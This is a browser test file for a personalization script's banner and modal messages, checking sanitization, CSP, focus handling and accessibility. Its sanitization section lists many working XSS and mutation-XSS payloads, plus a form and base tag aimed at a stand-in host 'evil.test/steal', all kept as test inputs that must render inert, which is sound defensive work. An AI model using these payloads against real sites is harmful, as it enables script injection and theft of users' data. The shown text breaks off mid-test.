/**
 * TD's in-browser content ("messages", issue 15) in every engine: an offer whose `td_in_browser.message_json`
 * is a replacement fills its targets' shadow roots, a modal opens an accessible dialog.
 *
 * Covered: attack strings in content_html render inert while the benign parts render and their styles stay in the
 * shadow root; a strict CSP with enforced Trusted Types (and WebKit's DOMPurify path without the policy p13n-html);
 * late targets and framework re-renders; a route without the message restores the target, consent denied restores
 * and closes; the modal's focus, keys, closing, scroll lock, events and once-per-visit rule; axe-core finds no WCAG
 * 2.1 A/AA violation; a cancelled `show`, `messages: false` and an answer without messages leave the page alone;
 * `prehide` never lets the original content show before the message.
 */
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { call, config, expect, test, type Tab } from './fixtures';
import { answer, offer, watchViolations } from './pages';

const KEY = 'td_in_browser.message_json';

/** An offer carrying a message, as TD's content editor sends it. */
const message = (type: 'replacement' | 'modal', html: string, selector?: string, attributes: Record<string, unknown> = {}) =>
  offer({ [KEY]: JSON.stringify(type == 'replacement' ? { type, selector, content_html: html } : { type, content_html: html }), ...attributes });

/** Every `p13n:message` event (with the id of its target, or 'document') and every `p13n:error`, kept in the page. */
const listen = (nonce?: string) => `<script${nonce ? ` nonce="${nonce}"` : ''}>
  window.seen = []; window.problems = [];
  document.addEventListener('p13n:message', function (e) {
    var d = e.detail;
    seen.push({ action: d.action, name: d.name, type: d.type, selector: d.selector, href: d.href,
      on: e.target == document ? 'document' : e.target.id, bubbles: e.bubbles, cancelable: e.cancelable });
  });
  document.addEventListener('p13n:error', function (e) { problems.push(e.detail.error.code + ' ' + e.detail.error.message) });
</script>`;

/** The recorder, then the tag loaded by a plain script tag and its init with `extra`. */
const TAG = (extra: Record<string, unknown> = {}, nonce?: string) =>
  listen(nonce) +
  `<script${nonce ? ` nonce="${nonce}"` : ''} src="{{TAG}}"></script><script${nonce ? ` nonce="${nonce}"` : ''}>p13n('init', ${config(extra)})</script>`;

type Seen = { action: string; name: string; type: string; selector?: string; href?: string; on: string; bubbles: boolean; cancelable: boolean };
const seen = (tab: Tab) => tab.evaluate(() => (window as any).seen as Seen[]);
/** The actions of the `p13n:message` events on the element `on` (an id, or 'document'), in order. */
const actions = async (tab: Tab, on: string) => (await seen(tab)).filter((event) => event.on == on).map((event) => event.action);
const problems = (tab: Tab) => tab.evaluate(() => (window as any).problems as string[]);

/**
 * What the element `selector` renders: its shadow root's markup (null without one), whether that root has a slot
 * (its own children rendered through it), and whether its own first child has a box, i.e. is on screen.
 */
const rendered = (tab: Tab, selector: string) =>
  tab.evaluate((selector) => {
    const element = document.querySelector(selector)!;
    const root = element.shadowRoot;
    const own = element.firstElementChild;
    return { html: root ? root.innerHTML : null, slot: !!root && !!root.querySelector('slot'), own: !!own && own.getClientRects().length > 0 };
  }, selector);

/** The text a target's shadow root renders, or null. */
const shadowText = (tab: Tab, selector: string) =>
  tab.evaluate((selector) => {
    const root = document.querySelector(selector)!.shadowRoot;
    return root ? (root.textContent || '').replace(/\s+/g, ' ').trim() : null;
  }, selector);

/** The page's requests for the messages module so far, and the script elements the core added for it. */
const messagesModule = (tab: Tab) =>
  tab.evaluate(() => ({
    requested: performance.getEntriesByType('resource').filter((entry) => /p13n-messages/.test(entry.name)).length,
    scripts: document.querySelectorAll('script[src*="p13n-messages"]').length,
  }));

/** `window.offersSeen` turns true in the page once `p13n:offers` has been dispatched. */
const OFFERS_SEEN = `<script>window.offersSeen = false; document.addEventListener('p13n:offers', function () { offersSeen = true });</script>`;

test.describe('replacement content is sanitized', () => {
  /** Each attack in a target of its own, so that one payload's markup cannot swallow the next. */
  const ATTACKS: Record<string, string> = {
    script: `<p>a</p><script>window.pwned = 'script'</script><script src="data:text/javascript,window.pwned='src'"></script>`,
    handlers: `<img src=x onerror="window.pwned='onerror'"><img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="window.pwned='onload'"><div onmouseover="window.pwned='over'" style="width:10px;height:10px">x</div><body onload="window.pwned='body'">`,
    hrefs:
      `<a href="javascript:window.pwned='js'">1</a><a href="JaVaScRiPt:window.pwned='mixed'">2</a>` +
      `<a href="  java&#x09;script:window.pwned='tab'">3</a><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:window.pwned='entities'">4</a>` +
      `<a href="jav&#x0A;ascript&colon;window.pwned='newline'">5</a><a href="data:text/html,<script>parent.pwned='data'</script>">6</a><a href="vbscript:x">7</a>`,
    svg:
      `<svg onload="window.pwned='svg'"><circle r="5"/></svg>` +
      `<svg><animate attributeName="href" values="javascript:window.pwned='animate'"/><a><text x="20" y="20">svg link</text></a></svg>` +
      `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='x' onerror='top.pwned=1'/&gt;&lt;/svg&gt;#x"/></svg>`,
    noscript: `<noscript><p title="</noscript><img src=x onerror=window.pwned='noscript'>"></noscript>`,
    mglyph: `<math><mtext><table><mglyph><style><img src=x onerror=window.pwned='mglyph'>`,
    forms: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned='form'>`,
    frames: `<iframe srcdoc="<script>parent.pwned='srcdoc'</script>"></iframe><object data="data:text/html,<script>parent.pwned='object'</script>"></object><embed src="data:text/html,<script>parent.pwned='embed'</script>">`,
    head: `<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/"><link rel="import" href="https://evil.test/x.html"><link rel="stylesheet" href="https://evil.test/x.css">`,
    form: `<form action="https://evil.test/steal"><input name="card"><button formaction="javascript:window.pwned='formaction'">Pay</button></form>`,
  };
  const BENIGN =
    `<style>.promo-title { color: rgb(1, 2, 3) }</style>` +
    `<h2 class="promo-title">Spring sale</h2><p style="color: rgb(4, 5, 6)">Half price, <a id="shop" href="https://www.shop.test/sale">shop now</a></p>` +
    `<img id="remote" alt="Banner" src="https://cdn.shop.test/banner.png"><img id="inline" alt="Dot" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">`;

  test('attack strings render inert; the text, https link, images and styles render, and the styles stay inside', async ({ open, emulator }) => {
    const offers: Record<string, unknown> = { benign: message('replacement', BENIGN, '#benign') };
    for (const name in ATTACKS) offers[name] = message('replacement', ATTACKS[name], '#attack-' + name);
    emulator.setFault(answer(offers));
    // no CSP: whatever got through would run
    const page = await open({
      head: TAG(),
      body:
        `<h2 class="promo-title" id="outside">Page heading</h2><div id="benign"><p>Original</p></div>` +
        Object.keys(ATTACKS).map((name) => `<div id="attack-${name}"><p>Original</p></div>`).join(''),
    });
    const start = await page.url();
    await expect.poll(async () => (await seen(page)).filter((event) => event.action == 'shown').length).toBe(Object.keys(offers).length);
    expect(await problems(page)).toEqual([]);
    // time for images to fail and load: the content's own, and one of the page's after them
    await page.waitForFunction(() =>
      Array.from(document.querySelectorAll('[id^=attack-], #benign')).every((target) => Array.from(target.shadowRoot!.querySelectorAll('img')).every((img) => img.complete)),
    );
    await page.evaluate(() => new Promise((done) => Object.assign(document.body.appendChild(document.createElement('img')), { onerror: done, src: '/missing.png' })));
    await page.waitForTimeout(100);
    expect(await page.evaluate(() => (window as any).pwned)).toBeUndefined();

    const found = await page.evaluate(() =>
      Array.from(document.querySelectorAll('[id^=attack-], #benign')).map((target) => {
        const root = target.shadowRoot!;
        const all = Array.from(root.querySelectorAll('*'));
        return {
          id: target.id,
          forbidden: all.filter((e) => /^(script|iframe|frame|form|input|button|base|svg|math|object|embed|meta|link|noscript|style|animate|use)$/i.test(e.localName)).map((e) => e.localName),
          handlers: all.flatMap((e) => Array.from(e.attributes).filter((a) => /^on/i.test(a.name)).map((a) => e.localName + ' ' + a.name)),
          urls: all.flatMap((e) =>
            ['href', 'src', 'xlink:href', 'action', 'formaction', 'srcdoc', 'data']
              .filter((name) => e.hasAttribute(name))
              .map((name) => {
                let protocol = 'unparsable';
                try {
                  protocol = new URL(e.getAttribute(name)!, location.href).protocol;
                } catch {}
                return `${e.localName} ${name} ${e.localName == 'img' && name == 'src' && protocol == 'data:' ? 'img-data' : protocol}`;
              })
              .filter((url) => !/ (https?|mailto|tel):$| img-data$/.test(url)),
          ),
          text: (root.textContent || '').trim(),
        };
      }),
    );
    for (const target of found) expect({ id: target.id, forbidden: target.forbidden, handlers: target.handlers, urls: target.urls }).toEqual({ id: target.id, forbidden: [], handlers: [], urls: [] });
    // the page itself got nothing: no base, refresh or import in its head, the same URL and base
    expect(await page.evaluate(() => document.querySelectorAll('base, meta[http-equiv], link, iframe, object, embed, form').length)).toBe(0);
    expect(await page.evaluate(() => document.baseURI)).toBe(start);
    expect(await page.url()).toBe(start);
    // the harmless parts of the attacks stay: their text
    expect(found.find((target) => target.id == 'attack-hrefs')!.text).toBe('1234567');

    const benign = await page.evaluate(() => {
      const root = document.getElementById('benign')!.shadowRoot!;
      const inline = root.getElementById('inline') as HTMLImageElement;
      return {
        text: root.textContent!.replace(/\s+/g, ' ').trim(),
        link: (root.getElementById('shop') as HTMLAnchorElement).href,
        remote: root.getElementById('remote')!.getAttribute('src'),
        inline: inline.naturalWidth,
        inside: getComputedStyle(root.querySelector('.promo-title')!).color,
        attribute: getComputedStyle(root.querySelector('p')!).color,
        outside: getComputedStyle(document.getElementById('outside')!).color,
        own: document.querySelector('#benign p')!.getClientRects().length,
      };
    });
    expect(benign).toEqual({
      text: 'Spring saleHalf price, shop now',
      link: 'https://www.shop.test/sale',
      remote: 'https://cdn.shop.test/banner.png',
      inline: 1, // the data: image loaded
      inside: 'rgb(1, 2, 3)',
      attribute: 'rgb(4, 5, 6)',
      outside: expect.not.stringMatching(/^rgb\(1, 2, 3\)$/),
      own: 0, // the target's own content is not rendered
    });
  });

  test("the content's CSS cannot reach the page's own target (:host); its links open a tab at most, without window.opener", async ({ open, emulator }) => {
    const css = '<style>:host{outline:7px solid rgb(9,9,9)} @media all{:host{background-color:rgb(9,9,9)}} .t{color:rgb(1,2,3)}</style>';
    const links = '<a class="t" id="tab" href="https://www.shop.test/a" target="_blank" rel="opener">a</a><a id="frame" href="https://www.shop.test/b" target="checkout">b</a>';
    emulator.setFault(answer({ promo: message('replacement', css + links, '#hero') }));
    const page = await open({ head: TAG(), body: '<div id="hero"><p>Original</p></div>' });
    await expect.poll(() => actions(page, 'hero')).toEqual(['show', 'shown']);
    expect(
      await page.evaluate(() => {
        const hero = document.getElementById('hero')!;
        const root = hero.shadowRoot!;
        const tab = root.getElementById('tab')!;
        return {
          outline: getComputedStyle(hero).outlineStyle,
          background: getComputedStyle(hero).backgroundColor,
          inside: getComputedStyle(tab).color,
          tab: [tab.getAttribute('target'), tab.getAttribute('rel')],
          frame: root.getElementById('frame')!.hasAttribute('target'),
        };
      }),
    ).toEqual({ outline: 'none', background: 'rgba(0, 0, 0, 0)', inside: 'rgb(1, 2, 3)', tab: ['_blank', 'noopener noreferrer'], frame: false });
  });
});

test.describe('under a strict CSP and enforced Trusted Types', () => {
  const CONTENT = `<style>.title { color: rgb(10, 20, 30) }</style><h2 class="title">Members save 20%</h2><p style="color: rgb(40, 50, 60)" onclick="window.pwned=1">Sign in at checkout</p>`;
  const csp = (apiUrl: string, policies: string) =>
    `default-src 'none'; script-src 'nonce-n0nce'; connect-src ${apiUrl}; require-trusted-types-for 'script'; trusted-types ${policies}`;
  /** What Chromium's parser logs for the content's inline style and handler while parsing it: nothing of them runs. */
  const PARSER = /^(Applying inline style violates|Executing inline event handler violates) the following Content Security Policy directive/;

  test('the message renders with its styles (CSSOM) and no Trusted Types violation', async ({ open, emulator, server, tab, engine }) => {
    emulator.setFault(answer({ members: message('replacement', CONTENT, '#hero') }));
    const violations = await watchViolations(tab);
    const page = await open({ csp: csp(server.apiUrl, 'p13n p13n-html'), head: TAG({}, 'n0nce'), body: `<div id="hero"><p>Original</p></div>` });
    await expect.poll(() => actions(page, 'hero')).toEqual(['show', 'shown']);
    expect(await shadowText(page, '#hero')).toBe('Members save 20%Sign in at checkout');
    expect(
      await page.evaluate(() => {
        const root = document.getElementById('hero')!.shadowRoot!;
        return [getComputedStyle(root.querySelector('h2')!).color, getComputedStyle(root.querySelector('p')!).color, root.querySelector('[onclick]')];
      }),
    ).toEqual(['rgb(10, 20, 30)', 'rgb(40, 50, 60)', null]);
    await page.evaluate(() => (document.getElementById('hero')!.shadowRoot!.querySelector('p') as HTMLElement).click());
    expect(await page.evaluate(() => (window as any).pwned)).toBeUndefined();
    expect(await problems(page)).toEqual([]);
    // no Trusted Types violation, nor any other: in Chromium, only its parser's report of the stripped handler and style
    expect((await violations.console()).filter((line) => !(engine == 'chromium' && PARSER.test(line)))).toEqual([]);
    expect((await violations.events()).filter((event) => !(engine == 'chromium' && /^(style|script)-src-attr inline$/.test(event)))).toEqual([]);
  });

  test('without the policy p13n-html: WebKit (DOMPurify) keeps the original content and reports it; Chromium and Firefox render', async ({ open, emulator, server, engine }) => {
    emulator.setFault(answer({ members: message('replacement', CONTENT, '#hero') }));
    const page = await open({ csp: csp(server.apiUrl, 'p13n'), head: TAG({}, 'n0nce'), body: `<div id="hero"><p>Original</p></div>` });
    if (engine != 'webkit') {
      await expect.poll(() => actions(page, 'hero')).toEqual(['show', 'shown']);
      expect(await shadowText(page, '#hero')).toBe('Members save 20%Sign in at checkout');
      expect(await problems(page)).toEqual([]);
      return;
    }
    await expect.poll(() => problems(page)).toEqual([expect.stringMatching(/^message p13n: message members: not shown: .*p13n-html/)]);
    await expect.poll(() => rendered(page, '#hero')).toEqual({ html: '<slot></slot>', slot: true, own: true });
    expect(await actions(page, 'hero')).toEqual(['show', 'restored']);
    expect(await problems(page)).toHaveLength(1);
  });
});

test.describe('reading messages and their targets', () => {
  test('message JSON as TD sends it (encoded twice, doubled backslashes) shows; an unreadable one is one error event each', async ({ open, emulator }) => {
    const twice = JSON.stringify({ type: 'replacement', selector: '#twice', content_html: '<b>Encoded twice</b>' });
    emulator.setFault(
      answer({
        broken: offer({ [KEY]: '{not json' }),
        popup: offer({ [KEY]: JSON.stringify({ type: 'popup', content_html: '<b>x</b>' }) }),
        selector: message('replacement', '<b>x</b>', '#'),
        twice: offer({ [KEY]: JSON.stringify(twice) }),
        // backslashes doubled in the attribute (`\\"` for `\"`): not JSON as is, read as td-js-sdk reads it, halved
        doubled: offer({ [KEY]: JSON.stringify({ type: 'replacement', selector: '#doubled', content_html: '<b title="q">Doubled</b>' }).replace(/\\/g, '\\\\') }),
      }),
    );
    const page = await open({ head: TAG(), body: `<div id="twice"><p>Original</p></div><div id="doubled"><p>Original</p></div>` });
    await expect.poll(() => actions(page, 'doubled')).toEqual(['show', 'shown']);
    expect((await rendered(page, '#doubled')).html).toBe('<b title="q">Doubled</b>');
    expect(await actions(page, 'twice')).toEqual(['show', 'shown']);
    expect(await shadowText(page, '#twice')).toBe('Encoded twice');
    expect(await problems(page)).toEqual([
      expect.stringMatching(/^message p13n: message broken: td_in_browser\.message_json is not JSON; see /),
      expect.stringMatching(/^message p13n: message popup: type "popup" is neither "replacement" nor "modal"; see /),
      expect.stringMatching(/^message p13n: message selector: selector "#" is not a CSS selector; see /),
    ]);
  });

  test('an element that takes no shadow root (li, td) shows it in a p13n-message host; consent denied gives its own children back', async ({ open, emulator }) => {
    emulator.setFault(answer({ promo: message('replacement', '<b>Promo</b>', '.promo') }));
    const page = await open({
      head: TAG(),
      body:
        `<ul><li class="promo" id="item"><span>Original item</span></li></ul><table><tr><td class="promo" id="cell"><span>Original cell</span></td></tr></table>` +
        `<script>window.kept = [document.querySelector('#item span'), document.querySelector('#cell span')]</script>`,
    });
    await expect.poll(() => actions(page, 'cell')).toEqual(['show', 'shown']);
    expect(await actions(page, 'item')).toEqual(['show', 'shown']);
    const hosted = () =>
      page.evaluate(() =>
        ['item', 'cell'].map((id) => {
          const target = document.getElementById(id)!;
          const host = target.firstElementChild!;
          return { own: !!target.shadowRoot, children: target.children.length, host: host.localName, html: host.shadowRoot ? host.shadowRoot.innerHTML : null };
        }),
      );
    expect(await hosted()).toEqual([
      { own: false, children: 1, host: 'p13n-message', html: '<b>Promo</b>' },
      { own: false, children: 1, host: 'p13n-message', html: '<b>Promo</b>' },
    ]);
    await call(page, 'consent', 'denied');
    await expect.poll(() => actions(page, 'cell')).toEqual(['show', 'shown', 'restored']);
    // the very nodes the page had
    expect(await page.evaluate(() => [document.querySelector('#item span') == (window as any).kept[0], document.querySelector('#cell span') == (window as any).kept[1], document.querySelectorAll('p13n-message').length])).toEqual([true, true, 0]);
  });
});

test.describe('late targets', () => {
  test('a target added after the answer and targets inside an added subtree are filled', async ({ open, emulator }) => {
    emulator.setFault(answer({ late: message('replacement', '<b>Late content</b>', '#late'), lazy: message('replacement', '<i>Lazy content</i>', '.lazy-banner') }));
    const page = await open({
      head:
        TAG() +
        `<script>document.addEventListener('p13n:offers', function () {
          setTimeout(function () {
            var late = document.createElement('div');
            late.id = 'late';
            late.innerHTML = '<p>Late original</p>';
            document.body.appendChild(late);
          }, 300);
          setTimeout(function () {
            var section = document.createElement('section');
            section.innerHTML = '<div><div class="lazy-banner" id="lazy-1"><p>Lazy original</p></div><article><div class="lazy-banner" id="lazy-2"><p>Lazy original</p></div></article></div>';
            document.body.appendChild(section);
          }, 400);
        });</script>`,
    });
    await expect.poll(() => actions(page, 'late')).toEqual(['show', 'shown']);
    expect(await shadowText(page, '#late')).toBe('Late content');
    expect((await rendered(page, '#late')).own).toBe(false);
    await expect.poll(() => actions(page, 'lazy-2')).toEqual(['show', 'shown']);
    expect(await actions(page, 'lazy-1')).toEqual(['show', 'shown']);
    expect(await shadowText(page, '#lazy-1')).toBe('Lazy content');
    expect(await shadowText(page, '#lazy-2')).toBe('Lazy content');
    expect((await seen(page)).find((event) => event.on == 'lazy-1')).toEqual({ action: 'show', name: 'lazy', type: 'replacement', selector: '.lazy-banner', on: 'lazy-1', bubbles: true, cancelable: true });
  });

  test('a framework re-rendering the target children does not re-apply the message nor loop', async ({ open, emulator }) => {
    emulator.setFault(answer({ hero: message('replacement', '<h2>Message</h2>', '#hero') }));
    const page = await open({
      head:
        TAG() +
        `<script>document.addEventListener('p13n:message', function (e) {
          if (e.detail.action != 'shown') return;
          var renders = 0, hero = document.getElementById('hero');
          var timer = setInterval(function () {
            var p = document.createElement('p');
            p.textContent = 'Render ' + ++renders;
            hero.replaceChildren(p);
            hero.setAttribute('data-render', String(renders));
            if (renders == 10) { clearInterval(timer); window.rendered = true }
          }, 20);
        });</script>`,
      body: `<div id="hero"><p>Original</p></div>`,
    });
    await expect.poll(() => actions(page, 'hero')).toEqual(['show', 'shown']);
    const before = await rendered(page, '#hero');
    // the observer's callback for the last render ran in that render's task: a `show` would have been announced there
    await page.waitForFunction(() => (window as any).rendered);
    expect(await actions(page, 'hero')).toEqual(['show', 'shown']);
    expect(await rendered(page, '#hero')).toEqual(before);
    expect(before).toEqual({ html: '<h2>Message</h2>', slot: false, own: false });
    expect(await page.evaluate(() => document.querySelector('#hero p')!.textContent)).toBe('Render 10');
  });
});

test.describe('route changes and consent', () => {
  test('a route whose answer no longer carries the message restores the target; a later one carrying it fills it again', async ({ open, emulator }) => {
    const sale = { sale: message('replacement', '<h2>Sale</h2>', '#hero') };
    emulator.setFault(answer(sale));
    emulator.setFault(answer({ other: offer({ headline: 'no message' }) }));
    emulator.setFault(answer(sale));
    const page = await open({ head: TAG({ spa: true }), body: `<main><h1>Home</h1><div id="hero"><p>Original</p></div></main>` });
    await expect.poll(() => actions(page, 'hero')).toEqual(['show', 'shown']);
    expect(await rendered(page, '#hero')).toEqual({ html: '<h2>Sale</h2>', slot: false, own: false });

    await page.evaluate(() => {
      history.pushState({}, '', '/test/shoes');
      document.querySelector('h1')!.textContent = 'Shoes';
    });
    await expect.poll(() => actions(page, 'hero')).toEqual(['show', 'shown', 'restored']);
    expect(await rendered(page, '#hero')).toEqual({ html: '<slot></slot>', slot: true, own: true });

    await page.evaluate(() => {
      history.pushState({}, '', '/test/sale');
      document.querySelector('h1')!.textContent = 'Sale';
    });
    await expect.poll(() => actions(page, 'hero')).toEqual(['show', 'shown', 'restored', 'show', 'shown']);
    expect(await rendered(page, '#hero')).toEqual({ html: '<h2>Sale</h2>', slot: false, own: false });
    expect(await problems(page)).toEqual([]);
  });

  test("consent('denied') restores every target and closes the open modal", async ({ open, emulator }) => {
    emulator.setFault(answer({ hero: message('replacement', '<h2>Sale</h2>', '#hero'), welcome: message('modal', '<h2>Welcome</h2><p>Hello</p>') }));
    const page = await open({ head: TAG(), body: `<div id="hero"><p>Original</p></div>` });
    await expect.poll(() => actions(page, 'document')).toEqual(['show', 'shown']);
    await expect.poll(() => actions(page, 'hero')).toEqual(['show', 'shown']);
    expect(await page.evaluate(() => document.documentElement.style.overflow)).toBe('hidden');
    await call(page, 'consent', 'denied');
    await expect.poll(() => actions(page, 'document')).toEqual(['show', 'shown', 'closed']);
    await expect.poll(() => actions(page, 'hero')).toEqual(['show', 'shown', 'restored']);
    expect(await rendered(page, '#hero')).toEqual({ html: '<slot></slot>', slot: true, own: true });
    expect(await page.evaluate(() => [document.querySelectorAll('p13n-modal').length, document.documentElement.style.overflow, sessionStorage.getItem('p13n:modals')])).toEqual([0, '', null]);
  });
});

test.describe('modal', () => {
  const CONTENT = `<h2>Welcome back</h2><p>Your basket is waiting. <a href="#x">See the basket</a></p>`;
  /** The modal as the page has it: host, dialog, and where the focus is. */
  const modalState = (tab: Tab) =>
    tab.evaluate(() => {
      const host = document.querySelector('p13n-modal');
      const dialog = host && host.shadowRoot!.querySelector('dialog');
      if (!dialog) return null;
      const label = dialog.getAttribute('aria-labelledby');
      const inside = host!.shadowRoot!.activeElement;
      // in the dialog: the focused element's name and class; else 'nothing' (the page has no focused element) or the page's element
      const focusName = () => {
        const active = document.activeElement;
        if (active == host) return inside && dialog.contains(inside) ? inside.localName + (inside.className ? '.' + inside.className : '') : 'the host, outside the dialog';
        return !active || active == document.body ? 'nothing' : 'page ' + active.localName + '#' + active.id;
      };
      return {
        hosts: document.querySelectorAll('p13n-modal').length,
        open: dialog.open,
        modal: dialog.matches(':modal'),
        ariaModal: dialog.getAttribute('aria-modal'),
        label: label ? host!.shadowRoot!.getElementById(label)!.textContent : null,
        focus: focusName(),
        overflow: document.documentElement.style.overflow,
      };
    });
  /** The centre of `selector` inside the modal's shadow root, in viewport pixels. */
  const centreOf = (tab: Tab, selector: string) =>
    tab.evaluate((selector) => {
      const box = document.querySelector('p13n-modal')!.shadowRoot!.querySelector(selector)!.getBoundingClientRect();
      return { x: box.left + box.width / 2, y: box.top + box.height / 2 };
    }, selector);
  /** Where the focus may be while the modal is open: its content, link, close button, or the dialog itself. */
  const INSIDE = /^(a|button\.close|div\.content|dialog)$/;
  /** A page whose button has the focus when the (slowed) answer opens the modal, and with an overflow of its own. */
  const PAGE = {
    head: TAG() + `<script>document.documentElement.style.overflow = 'auto'</script>`,
    body: `<button id="before">Before</button><p>Page</p><script>
      document.getElementById('before').focus();
      document.addEventListener('p13n:message', function (e) { if (e.detail.action == 'show') window.focusAtShow = document.activeElement.id });
    </script>`,
  };

  test('opens once, labelled by its heading, focus inside; Tab never reaches the inert page; Escape closes, focus returns, scroll is given back', async ({ open, emulator }) => {
    emulator.setFault(answer({ welcome: message('modal', CONTENT) }, { delayMs: 300 }));
    const page = await open(PAGE);
    await expect.poll(() => actions(page, 'document')).toEqual(['show', 'shown']);
    expect(await page.evaluate(() => (window as any).focusAtShow)).toBe('before');
    expect(await modalState(page)).toEqual({ hosts: 1, open: true, modal: true, ariaModal: 'true', label: 'Welcome back', focus: 'div.content', overflow: 'hidden' });
    const focused: string[] = [];
    for (let i = 0; i < 4; i++) {
      await page.press('Tab');
      focused.push((await modalState(page))!.focus);
    }
    await page.press('Shift+Tab');
    focused.push((await modalState(page))!.focus);
    // the link, the close button, and round again; never an element of the (inert) page (the next test: exactly)
    expect(focused.filter((where) => !INSIDE.test(where))).toEqual([]);
    expect(focused.slice(0, 2)).toEqual(['a', 'button.close']);
    expect(focused[3]).toMatch(INSIDE); // back in
    await page.press('Escape');
    await expect.poll(() => modalState(page)).toBeNull();
    expect(await page.evaluate(() => [document.activeElement!.id, document.documentElement.style.overflow, document.querySelectorAll('p13n-modal').length])).toEqual(['before', 'auto', 0]);
    expect(await seen(page)).toEqual(
      ['show', 'shown', 'closed'].map((action) => ({ action, name: 'welcome', type: 'modal', on: 'document', bubbles: true, cancelable: action == 'show' })),
    );
  });

  test('Tab past the last control keeps the focus in the dialog, and Shift+Tab before the first (a focus trap)', async ({ open, emulator }) => {
    // showModal() alone lets Tab leave for the browser's UI past the last control in Chromium and Firefox: the modal
    // takes the focus round itself
    emulator.setFault(answer({ welcome: message('modal', CONTENT) }));
    const page = await open(PAGE);
    await expect.poll(() => actions(page, 'document')).toEqual(['show', 'shown']);
    const focused: string[] = [];
    for (let i = 0; i < 6; i++) {
      await page.press('Tab');
      focused.push((await modalState(page))!.focus);
    }
    await page.press('Shift+Tab');
    focused.push((await modalState(page))!.focus);
    await page.press('Shift+Tab');
    focused.push((await modalState(page))!.focus);
    await page.press('Shift+Tab');
    focused.push((await modalState(page))!.focus);
    expect(focused).toEqual(['a', 'button.close', 'a', 'button.close', 'a', 'button.close', 'a', 'button.close', 'a']);
  });

  test("a link click is a 'click' event; the close button and the backdrop close it; 'page' frequency shows it at every page view", async ({ open, emulator, server }) => {
    const welcome = { welcome: message('modal', CONTENT, undefined, { p13n_modal_frequency: 'page' }) };
    emulator.setFault(answer(welcome, { delayMs: 300 })); // the page's button has the focus first
    emulator.setFault(answer(welcome));
    const page = await open(PAGE);
    await expect.poll(() => actions(page, 'document')).toEqual(['show', 'shown']);
    expect(await page.evaluate(() => (window as any).focusAtShow)).toBe('before');
    const link = await centreOf(page, 'a');
    await page.clickAt(link.x, link.y);
    await expect.poll(() => actions(page, 'document')).toEqual(['show', 'shown', 'click']);
    expect((await seen(page))[2]).toMatchObject({ action: 'click', name: 'welcome', type: 'modal', href: `http://www.shop.test:${server.port}/test#x` });
    expect((await modalState(page))!.open).toBe(true); // a link does not close it
    const close = await centreOf(page, 'button.close');
    await page.clickAt(close.x, close.y);
    await expect.poll(() => modalState(page)).toBeNull();
    expect(await actions(page, 'document')).toEqual(['show', 'shown', 'click', 'closed']);
    expect(await page.evaluate(() => [document.activeElement!.id, document.documentElement.style.overflow])).toEqual(['before', 'auto']);

    await page.reload();
    await expect.poll(() => actions(page, 'document')).toEqual(['show', 'shown']);
    expect((await modalState(page))!.open).toBe(true);
    await page.clickAt(3, 3); // the backdrop, outside the dialog's box
    await expect.poll(() => modalState(page)).toBeNull();
    expect(await actions(page, 'document')).toEqual(['show', 'shown', 'closed']);
  });

  test('once per visit: a reload in the same tab does not show it again', async ({ open, emulator }) => {
    // the modal first in the answer, so its `show` would come before the banner is shown
    const offers = { welcome: message('modal', CONTENT), banner: message('replacement', '<b>Banner</b>', '#banner') };
    emulator.setFault(answer(offers));
    emulator.setFault(answer(offers));
    const page = await open({ head: TAG(), body: `<div id="banner"><p>Original</p></div>` });
    await expect.poll(() => actions(page, 'document')).toEqual(['show', 'shown']);
    await page.press('Escape');
    await expect.poll(() => modalState(page)).toBeNull();
    await page.reload();
    await expect.poll(() => actions(page, 'banner')).toEqual(['show', 'shown']);
    expect(await actions(page, 'document')).toEqual([]);
    expect(await page.evaluate(() => document.querySelectorAll('p13n-modal').length)).toBe(0);
  });
});

test.describe('accessibility (axe-core, WCAG 2.1 A and AA)', () => {
  const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
  /**
   * axe's violations of the page as it is now (rule id and the nodes' selectors, through shadow roots), and the
   * rules that passed on a node inside the shadow root of `host`: evidence that axe looked at the message at all.
   */
  const audit = async (tab: Tab, host: string) => {
    // no CSP on these pages: the source runs as a script of the page
    await tab.evaluate((source) => void (0, eval)(source), AXE);
    return tab.evaluate(async (host) => {
      type Rule = { id: string; nodes: { target: unknown[] }[] };
      const results = await (window as any).axe.run(document, { runOnly: { type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'] } });
      // a node in a shadow root has a target of selectors, from the host's down
      const inHost = (rule: Rule) => rule.nodes.some((node) => Array.isArray(node.target[0]) && (node.target[0] as string[])[0] == host);
      return {
        violations: (results.violations as Rule[]).map((rule) => ({ id: rule.id, nodes: rule.nodes.map((node) => JSON.stringify(node.target)) })),
        passedInside: (results.passes as Rule[]).filter(inHost).map((rule) => rule.id),
      };
    }, host);
  };
  const PAGE = (body: string) => ({
    head: TAG() + `<script>document.documentElement.lang = 'en'</script>`,
    body: `<header><h1>Shop</h1></header><main>${body}</main>`,
  });
  const BANNER =
    `<style>.banner { background: #fff; color: #222; padding: 8px } .banner a { color: #0645ad }</style>` +
    `<section class="banner" aria-label="Offer"><h2>Spring sale</h2><p>Up to half price. <a href="https://www.shop.test/sale">Shop the sale</a></p>` +
    `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" alt="Spring flowers" width="40" height="40"></section>`;

  test('a page with the modal open has no violation', async ({ open, emulator }) => {
    emulator.setFault(answer({ welcome: message('modal', BANNER) }));
    const page = await open(PAGE(`<p>Page text</p>`));
    await expect.poll(() => actions(page, 'document')).toEqual(['show', 'shown']);
    const { violations, passedInside } = await audit(page, 'p13n-modal');
    expect(violations).toEqual([]);
    expect(passedInside).toEqual(expect.arrayContaining(['aria-valid-attr-value', 'button-name', 'image-alt', 'link-name']));
  });

  test('a page with a replaced banner has no violation', async ({ open, emulator }) => {
    emulator.setFault(answer({ spring: message('replacement', BANNER, '#hero') }));
